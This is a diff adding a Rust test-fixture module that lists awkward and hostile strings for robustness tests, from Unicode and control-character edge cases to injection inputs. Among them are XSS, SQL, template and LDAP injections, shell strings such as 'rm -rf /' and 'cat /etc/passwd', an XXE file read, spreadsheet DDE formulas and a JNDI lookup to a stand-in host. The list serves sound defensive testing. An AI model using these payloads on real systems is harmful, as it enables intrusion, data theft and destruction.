@@ -1,0 +1,168 @@
+//! Strings that programs have stumbled over, for the tests of the function and for those of the whole product.
+
+/// All of them, one kind to a paragraph.
+pub fn all() -> Vec<String> {
+    let mut strings: Vec<String> = [
+        // What programs take for nothing, for a number or for a truth
+        "undefined",
+        "null",
+        "nil",
+        "None",
+        "NaN",
+        "-0",
+        "1e309",
+        "0x7fffffff",
+        "1/0",
+        "true",
+        "\\0",
+        "-",
+        "--",
+        ".",
+        "../..",
+        // HTML, attributes, scripts
+        "<script>alert(1)</script>",
+        "\"><svg/onload=alert(1)>",
+        "' onfocus='alert(1)' autofocus='",
+        "</textarea><script>x()</script>",
+        "</title><iframe src=javascript:alert(1)>",
+        "<!--",
+        "-->",
+        "<![CDATA[x]]>",
+        "&lt;b&gt; &amp;amp; &#60; &quot;",
+        "javascript:alert(1)",
+        "<img src=x onerror=\"&#97;lert(1)\">",
+        "<a href=\"//exemple.example\">clic</a>",
+        "<style>*{display:none}</style>",
+        "<input type=hidden name=_form_digest value=x>",
+        "<form action=//exemple.example>",
+        "`;alert(1)//",
+        "\\\"-alert(1)}//",
+        // Templates
+        "{{",
+        "}}",
+        "{{ 7 * 7 }}",
+        "{% for x in y %}",
+        "{#",
+        "{{ __tera_context }}",
+        "${7*7}",
+        "#{7*7}",
+        "<%= 7 * 7 %>",
+        "{{constructor.constructor('alert(1)')()}}",
+        // SQL, NoSQL, LDAP, shells, paths, XML
+        "' OR 1=1 --",
+        "Robert'); DROP TABLE submissions;--",
+        "1;SELECT pg_sleep(9)",
+        "{\"$gt\": \"\"}",
+        "S#A83K2529XY",
+        "*)(uid=*))(|(uid=*",
+        "; rm -rf / #",
+        "$(reboot)",
+        "`reboot`",
+        "| cat /etc/passwd",
+        "..\\..\\windows\\win.ini",
+        "/dev/null",
+        "CON",
+        "file:///etc/passwd",
+        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>",
+        // Spreadsheets
+        "=1+1",
+        "+1+1",
+        "-2+3",
+        "@SUM(1;2)",
+        "=HYPERLINK(\"http://exemple.example\";\"clic\")",
+        "=cmd|' /C calc'!A0",
+        "\t=1+1",
+        // Logs and mail
+        "ligne\r\n{\"level\":\"ERROR\",\"outcome\":\"forged\"}",
+        "a\nSubject: b\n\nc",
+        "a%0d%0aSet-Cookie: b=c",
+        "%s%s%n %d %x",
+        "${jndi:ldap://exemple.example/a}",
+        // Line ends of every platform
+        "a\r\nb",
+        "a\rb",
+        "a\nb",
+        "\n\na\n\n\nb\n",
+        "a\u{2028}b\u{2029}c",
+        // Blanks, seen and unseen
+        "\u{a0}a\u{a0}",
+        "a\u{202f}!",
+        "\u{3000}a\u{3000}b",
+        "a\u{200b}b\u{2060}c\u{feff}d",
+        "\u{200b}\u{200b}",
+        " ",
+        "\u{180e}a",
+        "a\u{ad}b",
+        // Directions
+        "\u{202e}txt.exe",
+        "a\u{202e}b\u{202c}c",
+        "\u{2066}a\u{2069}\u{2067}b\u{2069}",
+        "مرحبا بالعالم",
+        "עברית ואנגלית mixed",
+        "\u{200f}\u{61c}a",
+        // Emoji: joined, coloured, flags, keycaps
+        "👩🏽‍⚕️ 👨‍👩‍👧‍👦",
+        "🏳️‍🌈 🇨🇭 1️⃣",
+        "❤️",
+        "👩\u{200d}",
+        "🧑🏿‍🦽",
+        // Marks in storms, and forms that look alike
+        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
+        "e\u{301} é",
+        "ﬁ ﬀ ﷽",
+        "раураl",
+        "İıſK",
+        "ẞ ß",
+        "Ⅷ ① ㎏",
+        // Other scripts, and characters beyond the first plane
+        "田中さんにあげて下さい",
+        "찦차를 타고 온",
+        "ᚠᛇᚻ᛫ᛒᛦᚦ",
+        "नमस्ते दुनिया",
+        "ༀ་མ་ཎི",
+        "𝕋𝕙𝕖 𝓺𝓾𝓲𝓬𝓴",
+        "𠜎𠜱𠝹",
+        "\u{10ffff}",
+        "\u{e000}",
+        "\u{fdd0}\u{fffe}\u{ffff}",
+        "\u{fffd}",
+        // Tags that nobody sees
+        "a\u{e0041}\u{e0042}\u{e007f}",
+        "\u{fff9}a\u{fffa}b\u{fffb}",
+        // Control characters
+        "a\0b",
+        "\0",
+        "a\u{1b}[31mrouge\u{1b}[0m",
+        "\u{7}",
+        "a\u{8}b",
+        "a\u{7f}b",
+        "a\u{85}b",
+        "\u{9b}2J",
+        "a\u{b}b\u{c}c",
+        "\u{1a}",
+        "\u{1e}\u{1f}",
+        "\tcolonnes\tici",
+        // Percent signs that are no escapes, and escapes twice
+        "100%",
+        "%",
+        "%zz",
+        "%2",
+        "%00",
+        "%25%32%35",
+        "%C3%28",
+        "%ED%A0%80",
+        "a+b=c&d",
+        "a%26b%3Dc",
+        "_form_digest=x&_url=y",
+    ]
+    .map(str::to_owned)
+    .into();
+    strings
+        .push("Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft".repeat(20));
+    strings.push("a".repeat(2000));
+    strings.push("🦦".repeat(2000));
+    strings.push("🦦".repeat(2001));
+    strings.push(format!("a{}", "\u{301}".repeat(1999)));
+    strings.push("\"".repeat(2000));
+    strings
+}
